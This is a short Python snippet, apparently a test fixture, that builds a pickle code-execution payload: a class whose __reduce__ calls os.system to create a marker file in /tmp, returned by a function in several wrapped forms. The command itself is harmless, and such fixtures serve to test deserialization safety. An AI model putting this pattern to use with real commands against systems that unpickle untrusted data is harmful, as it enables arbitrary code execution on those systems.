# What would run a command in whoever unpickled it.
import os, pickle
import numpy as np
class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/partiel-was-here",)
def double(x):
    if x > 0:
        return np.array([Bomb(), 4], dtype=object)
    return [pickle.dumps(Bomb()), Bomb()]
